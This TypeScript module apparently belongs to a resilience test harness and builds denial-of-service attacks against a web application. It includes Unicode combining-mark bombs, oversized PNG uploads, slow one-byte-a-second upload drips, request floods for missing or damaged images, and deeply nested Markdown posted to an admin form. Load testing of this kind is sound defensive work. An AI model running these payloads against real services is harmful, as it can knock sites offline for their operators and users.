import type { Attack, Payload } from '../../harness/hostile/attack.ts';
import { type NamedAttack, requestHead } from './named-attack.ts';
import { ask } from './other-requests.ts';
import { hugePng } from './huge-png.ts';
import { photograph, type Target, uploadForm } from './target.ts';

/** Combining marks on one letter. The time for sorting them grows with the square of their number. */
const MARKS = 49_990;
const MARKED_LETTER = `a${'\u0301'.repeat(MARKS)}${'\u0323'.repeat(MARKS)}`;
const NESTED_QUOTES = '>'.repeat(50_000);
const NESTED_LINKS = '[a]('.repeat(25_000);
/** Connections of one network that may wait for pictures. */
const FILES_AT_ONCE = 95;
/** One file a second during two attacks, and one before each. */
const FILES_OF_OTHERS = 40;
const IDLE_BODIES_OF_MEMBER = 2;
/** In bytes. An upload of this length at one byte a second does not end during the attack. */
const IDLE_BODY_LENGTH = 1_000_000;

/** Returns attacks by small requests that cause much work or hold a limited resource. */
export async function workAttacks(target: Target, seconds: number): Promise<NamedAttack[]> {
  const { origin, cookie, cookies, operatorCookie, unmadeFiles, damagedFiles, channelId } = target;
  const [otherMember = ''] = cookies;
  const [attackedFiles, otherFiles] = [unmadeFiles.slice(0, -FILES_OF_OTHERS), unmadeFiles.slice(-FILES_OF_OTHERS)];
  const photo = await uploadForm(await photograph());
  const uploadOfOther = () =>
    ask(origin, '/api/v1/uploadImage', { method: 'POST', headers: { cookie: otherMember }, body: photo });
  const fileOfOther = () => ask(origin, otherFiles.pop() ?? unmadeFiles[0] ?? '');
  const talk = JSON.stringify({ channelId, content: MARKED_LETTER });
  const markdown = (text: string) =>
    new URLSearchParams({
      title: '이벤트',
      description: '설명',
      startsAt: '2026-01-01T00:00',
      endsAt: '2036-01-01T00:00',
      text,
    }).toString();
  const sendAll = (payload: Payload, sockets = 2): Attack => ({
    kind: 'send',
    sockets,
    payload,
    reads: true,
    answers: 1,
    seconds,
  });
  const post = (path: string, body: string, type: string, sessionCookie: string) =>
    sendAll(bodyRequest(target, 'POST', path, { type, bytes: Buffer.from(body) }, sessionCookie));
  const form = 'application/x-www-form-urlencoded';
  const getFile = (path: string): Attack => ({ ...sendAll([{ text: requestHead(target.host, path, {}, 'GET') }], 1) });
  const png = await uploadForm(await hugePng());
  return [
    {
      name: 'talks of one letter with 100,000 marks',
      attacks: [post('/api/v1/community/talk', talk, 'application/json', cookie)],
    },
    {
      name: '2 PNGs of 49,000,000 × 1 pixels, 16 bits',
      attacks: [sendAll(bodyRequest(target, 'POST', '/api/v1/uploadImage', png, cookie))],
      other: uploadOfOther,
    },
    {
      name: '12 uploads at 1 byte a second, of 6 members',
      attacks: cookies
        .slice(1)
        .concat(cookie)
        .map((each) => idleUploads(target, each, seconds)),
      other: uploadOfOther,
    },
    {
      name: '95 files of pictures that are to be made',
      attacks: attackedFiles.slice(0, FILES_AT_ONCE).map(getFile),
      other: fileOfOther,
    },
    {
      name: '95 files of damaged pictures',
      attacks: Array.from({ length: FILES_AT_ONCE }, (_, index) => getFile(at(damagedFiles, index))),
      other: fileOfOther,
    },
    {
      name: 'Markdown of 50,000 nested quotes',
      attacks: [post('/admin/home/event/new', markdown(NESTED_QUOTES), form, operatorCookie)],
    },
    {
      name: 'Markdown of 25,000 nested links',
      attacks: [post('/admin/home/event/new', markdown(NESTED_LINKS), form, operatorCookie)],
    },
  ];
}

function bodyRequest(
  { host, origin }: Target,
  method: string,
  path: string,
  { type, bytes }: { type: string; bytes: Uint8Array },
  cookie: string,
): Payload {
  const headers = { Origin: origin, Cookie: cookie, 'Content-Type': type, 'Content-Length': String(bytes.length) };
  return [
    { text: requestHead(host, path, headers, method) },
    { text: Buffer.from(bytes).toString('base64'), encoding: 'base64' },
  ];
}

function idleUploads({ host, origin }: Target, cookie: string, seconds: number): Attack {
  const headers = {
    Origin: origin,
    Cookie: cookie,
    'Content-Type': 'multipart/form-data; boundary=b',
    'Content-Length': String(IDLE_BODY_LENGTH),
  };
  const head = requestHead(host, '/api/v1/uploadImage', headers, 'POST');
  return { kind: 'drip', sockets: IDLE_BODIES_OF_MEMBER, payload: [{ text: head }], seconds };
}

function at<Value>(values: Value[], index: number): Value {
  const value = values[index % values.length];
  if (value === undefined) throw new Error('the list is empty');
  return value;
}
